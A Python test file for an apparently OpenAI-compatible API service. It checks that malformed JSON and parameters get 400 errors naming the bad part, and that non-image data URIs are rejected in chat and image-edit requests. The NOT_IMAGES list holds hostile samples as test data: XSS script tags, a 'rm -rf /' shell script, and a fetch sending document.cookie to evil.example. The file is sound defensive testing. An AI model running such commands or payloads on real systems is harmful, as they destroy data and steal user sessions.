"""Malformed bodies and parameters that used to crash a handler: each is a 400 naming the part."""

from __future__ import annotations

import pytest
from conftest import ServiceFactory

DEEP = b"[" * 1000 + b"]" * 1000
CHAT = b'{"model": "gpt-5.4", "messages": [{"role": "user", "content": "x"}], "metadata": %s}'


@pytest.mark.parametrize(
    ("method", "path", "body", "param", "code"),
    [
        ("POST", "/v1/images/generations", b'{"prompt": "x", "n": "\xc2\xb2"}', "n", "invalid_value"),
        ("POST", "/v1/videos", b'{"prompt": "x", "seconds": "\xc2\xb2"}', "seconds", "invalid_value"),
        ("POST", "/v1/videos/generations", b'{"prompt": "x", "duration": "\xe2\x91\xa0"}', "duration", "invalid_value"),
        ("GET", "/v1/videos?limit=%C2%B2", None, "limit", "invalid_value"),
        ("POST", "/v1/chat/completions", CHAT % DEEP, None, "invalid_json"),
        ("POST", "/v1/chat/completions", DEEP, None, "invalid_json"),
        ("POST", "/v1/images/generations", b'{"prompt": %s}' % DEEP, None, "invalid_json"),
        ("POST", "/v1/videos", b'{"a":' * 1000 + b"1" + b"}" * 1000, None, "invalid_json"),
        ("POST", "/v1/chat/completions", b'{"model": "gpt-5.4\xff\xfe", "messages": [{"role": "user", "content": "x"}]}', None, "invalid_json"),
        ("POST", "/v1/images/generations", b'{"prompt": "\xc3\x28"}', None, "invalid_json"),
    ],
)
async def test_crashers_are_400s(make_service: ServiceFactory, sim, method: str, path: str, body: bytes | None,
                                 param: str | None, code: str) -> None:
    service = await make_service()
    async with service.http() as http:
        response = await http.request(method, path, content=body, headers={"Content-Type": "application/json"})
    assert response.status_code == 400, response.text
    error = response.json()["error"]
    assert error["param"] == param and error["code"] == code and error["message"]
    assert sim.requests == []


def _data_uri(mime: str, data: bytes) -> str:
    import base64

    return f"data:{mime};base64," + base64.b64encode(data).decode()


NOT_IMAGES = [
    ("image/png", b"<!doctype html><html><body><script>alert(1)</script></body></html>"),
    ("text/html", b"<html><body>hello</body></html>"),
    ("image/jpeg", b"#!/bin/sh\nrm -rf /\n"),
    ("image/svg+xml", b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
    ("application/javascript", b"fetch('https://evil.example/'+document.cookie)"),
]


@pytest.mark.parametrize(("mime", "data"), NOT_IMAGES)
async def test_an_image_part_must_be_an_image(make_service: ServiceFactory, sim, mime: str, data: bytes) -> None:
    service = await make_service()
    part = {"type": "image_url", "image_url": {"url": _data_uri(mime, data)}}
    body = {"model": "gpt-5.4", "messages": [{"role": "user", "content": [{"type": "text", "text": "what is this"}, part]}]}
    async with service.http() as http:
        chat = await http.post("/v1/chat/completions", json=body)
        edit = await http.post("/v1/images/edits", json={"prompt": "x", "image": _data_uri(mime, data)})
    assert chat.status_code == 400, chat.text
    assert chat.json()["error"]["param"] == "messages[0].content[1]"
    assert edit.status_code == 400 and edit.json()["error"]["param"] == "image"
    assert sim.requests == []
